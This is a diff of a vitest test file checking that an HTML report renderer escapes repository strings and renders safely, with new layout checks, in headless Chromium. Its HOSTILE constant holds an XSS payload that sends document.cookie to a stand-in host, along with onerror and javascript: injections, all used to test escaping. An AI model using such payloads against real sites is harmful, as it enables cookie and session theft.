@@ -1,13 +1,13 @@
 // The HTML report (and the badge): self-contained, every repository string escaped, and it really renders
 // in headless Chromium with no console errors and no network request.
-import { statSync } from 'node:fs';
+import { readdirSync, statSync } from 'node:fs';
 import path from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import type { Report } from '../src/report/report.js';
 import { badgeFor, renderBadge } from '../src/reporters/badge.js';
 import { renderHtml } from '../src/reporters/html.js';
 import { REPORTERS } from '../src/reporters/index.js';
-import { chromiumAvailable, CHROMIUM_SKIP_REASON, renderInChromium } from './browser.js';
+import { chromiumAvailable, CHROMIUM_SKIP_REASON, LAYOUT_PROBE, renderAtWidths, renderInChromium } from './browser.js';
 import { FIXTURES, makeTree, scanDir } from './helpers.js';
 
 const HOSTILE = `<script>fetch('http://127.0.0.1:9/steal?c='+document.cookie)</script><img src="http://127.0.0.1:9/pixel.png" onerror="alert(1)"><a href="javascript:alert(2)">x</a>"'\`=&lt;`;
@@ -15,10 +15,13 @@ const HOSTILE = `<script>fetch('http://127.0.0.1:9/steal?c='+document.cookie)</s
 let complete: Report;
 let notebooks: Report;
 let hostile: Report;
+/** A real scan of every fixture, by folder name. */
+const fixtureReports = new Map<string, Report>();
 
 beforeAll(async () => {
-  complete = await scanDir(path.join(FIXTURES, 'complete-handover'));
-  notebooks = await scanDir(path.join(FIXTURES, 'notebook-dump'));
+  for (const name of readdirSync(FIXTURES)) fixtureReports.set(name, await scanDir(path.join(FIXTURES, name)));
+  complete = fixtureReports.get('complete-handover')!;
+  notebooks = fixtureReports.get('notebook-dump')!;
   // A real scan of a tree whose names carry markup, then every repo-derived string poisoned.
   const dir = makeTree({ 'docs/adr/0001-<img src=x onerror=alert(1)>.md': `# 1. ${HOSTILE}\n\nDate: 2025-02-01\n\n## Status\n\nAccepted\n` });
   const scanned = await scanDir(dir);
@@ -48,7 +51,7 @@ describe('HTML report (text)', () => {
     expect(page).not.toMatch(/<script|<link|<iframe|<object|<embed|@import|url\(/i);
     expect(page).not.toMatch(/\s(src|href)="(?!#)/i);
     // One chart per check, the score and the gate.
-    expect(page.match(/<svg class="chart"/g)).toHaveLength(complete.checks.length);
+    expect(page.match(/<div class="chart"/g)).toHaveLength(complete.checks.length);
     expect(page).toContain(`${complete.score}/100`);
     expect(page).toContain(complete.passed ? 'GATE PASSED' : 'GATE FAILED');
   });
@@ -86,8 +89,8 @@ describe('badge', () => {
 const PROBE = `(() => ({
   title: document.title,
   heading: document.querySelector('h1')?.textContent ?? '',
-  charts: document.querySelectorAll('svg.chart').length,
-  chartWidth: document.querySelector('svg.chart')?.getBoundingClientRect().width ?? 0,
+  charts: document.querySelectorAll('.chart').length,
+  chartWidth: document.querySelector('.chart svg.bar')?.getBoundingClientRect().width ?? 0,
   gauge: document.querySelectorAll('svg.gauge').length,
   scripts: document.scripts.length,
   injected: document.querySelectorAll('img, iframe, object, embed, a[href^="javascript"]').length,
@@ -102,7 +105,7 @@ describe.skipIf(!chromiumAvailable)(`HTML report in headless Chromium${chromiumA
     expect(rendered.requests).toEqual([]);
     expect(rendered.facts.charts).toBe(complete.checks.length);
     expect(rendered.facts.gauge).toBe(1);
-    expect(rendered.facts.chartWidth as number).toBeGreaterThan(200);
+    expect(rendered.facts.chartWidth as number).toBeGreaterThan(150);
     expect(rendered.facts.heading).toContain('Handover readiness');
     expect(statSync(rendered.screenshot).size).toBeGreaterThan(5_000);
   });
@@ -115,6 +118,37 @@ describe.skipIf(!chromiumAvailable)(`HTML report in headless Chromium${chromiumA
     expect(rendered.facts.scripts).toBe(0);
     expect(rendered.facts.injected).toBe(0);
     expect(rendered.facts.bodyText as string).toContain("<script>fetch('http://127.0.0.1:9/steal");
+  });
+
+  // Desktop and phone: every line of text inside the viewport, no sideways scrolling, no SVG text cut off.
+  const WIDTHS = [1280, 390];
+  const layoutCases = () => [...readdirSync(FIXTURES).map((name) => [name, () => fixtureReports.get(name)!] as const), ['hostile', () => hostile] as const];
+
+  it.each(readdirSync(FIXTURES).concat('hostile'))('lays out the %s report within the viewport at 1280 and 390 px', async (name) => {
+    const report = layoutCases().find(([caseName]) => caseName === name)![1]();
+    const rendered = await renderAtWidths(renderHtml(report), name, LAYOUT_PROBE, WIDTHS);
+    expect(rendered.consoleErrors).toEqual([]);
+    for (const { width, facts } of rendered.widths) {
+      expect(facts.viewport, `${name} at ${width}`).toBe(width);
+      expect(facts.texts as number).toBeGreaterThan(100); // the probe measured the report, not an empty page
+      expect(facts.outside, `${name} at ${width}: text outside the viewport`).toEqual([]);
+      expect(facts.clipped, `${name} at ${width}: SVG text cut off`).toEqual([]);
+      expect(facts.scrollWidth, `${name} at ${width}: the page scrolls sideways`).toBeLessThanOrEqual(facts.clientWidth as number);
+    }
+  });
+
+  it('shows every criterion label whole, on one line at 1280 px', async () => {
+    const rendered = await renderAtWidths(
+      renderHtml(fixtureReports.get('complete-handover')!),
+      'labels',
+      `(() => [...document.querySelectorAll('.bar-label')].map((label) => ({ text: label.textContent, lines: label.getClientRects().length, height: label.getBoundingClientRect().height })))()`,
+      [1280],
+    );
+    const labels = rendered.widths[0].facts as unknown as Array<{ text: string; height: number }>;
+    const titles = fixtureReports.get('complete-handover')!.checks.flatMap((check) => ['Check score', ...check.criteria.map((criterion) => criterion.title)]);
+    expect(labels.map((label) => label.text)).toEqual(titles);
+    // 12 px text on a 1.5 line height: one line is 18 px; a wrapped label would be 36.
+    expect(labels.filter((label) => label.height > 20).map((label) => label.text)).toEqual([]);
   });
 });
 
